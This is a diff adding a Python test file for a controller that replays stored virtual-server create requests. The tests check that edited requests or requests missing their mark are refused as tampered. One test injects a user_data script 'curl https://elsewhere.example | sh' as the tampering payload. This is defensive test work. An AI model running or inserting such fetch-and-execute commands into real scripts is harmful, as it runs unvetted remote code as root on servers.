@@ -1,0 +1,67 @@
+"""A stored create request is repeated as it was stored, or not at all: it decides what runs as root on a new server."""
+
+from __future__ import annotations
+
+import base64
+import json
+
+import pytest
+from tests.support.controller_bench import Bench
+from tests.unit.controllers.test_set_clock import Scene
+from tests.unit.runtime.test_service import CAPABILITIES
+
+from moorage.api.names import ANNOTATION_STATE
+from moorage.core.steps import CreateAgain, Settled
+from moorage.kube.kinds import SECRET, VIRTUAL_SERVER
+
+
+@pytest.fixture
+async def scene(bench: Bench) -> Scene:
+    """One call without an answer, on a service that knows idempotency keys."""
+    made = Scene(bench)
+    made.backend.capabilities = CAPABILITIES
+    await made.begin()
+    made.clock.advance(5)
+    return made
+
+
+async def again(scene: Scene) -> tuple[object, str]:
+    """What is decided next, and the reason that the status then gives."""
+    step = await scene.step()
+    await scene.step()
+    server = await scene.bench.context.client.get(VIRTUAL_SERVER, "ns", "lonely")
+    stalled = [c["reason"] for c in server["status"]["conditions"] if c["type"] == "Stalled"]
+    return step, "".join(stalled)
+
+
+async def patch(scene: Scene, change: dict[str, object]) -> None:
+    client, uid = scene.bench.context.client, scene.server["metadata"]["uid"]
+    answer = await client.patch(SECRET, "ns", uid, change, manager="somebody")
+    scene.bench.context.store.ingest(SECRET, answer)
+
+
+async def test_the_request_is_repeated_as_it_was_stored(scene: Scene) -> None:
+    assert await again(scene) == (CreateAgain(record=False), "")
+    assert scene.backend.calls.count("create") == 2
+
+
+@pytest.mark.parametrize("part", ["user_data", "image", "tags"])
+async def test_an_edited_request_is_not_repeated(scene: Scene, part: str) -> None:
+    secret = await scene.bench.context.client.get(SECRET, "ns", scene.server["metadata"]["uid"])
+    request = json.loads(base64.b64decode(secret["data"]["request"]))
+    name = next(key for key in request if key.replace("_", "").lower() == part.replace("_", ""))
+    request[name] = {} if part == "tags" else "#!/bin/sh\ncurl https://elsewhere.example | sh\n"
+    await patch(scene, {"data": {"request": base64.b64encode(json.dumps(request).encode()).decode()}})
+    step, reason = await again(scene)
+    assert (step, reason) == (CreateAgain(record=False), "RequestTampered")
+    assert scene.backend.calls.count("create") == 1
+    assert isinstance(await scene.step(), Settled)
+
+
+async def test_a_request_without_its_mark_is_not_repeated(scene: Scene) -> None:
+    secret = await scene.bench.context.client.get(SECRET, "ns", scene.server["metadata"]["uid"])
+    state = json.loads(secret["metadata"]["annotations"][ANNOTATION_STATE])
+    del state["request"]
+    await patch(scene, {"metadata": {"annotations": {ANNOTATION_STATE: json.dumps(state)}}})
+    assert (await again(scene))[1] == "RequestTampered"
+    assert scene.backend.calls.count("create") == 1
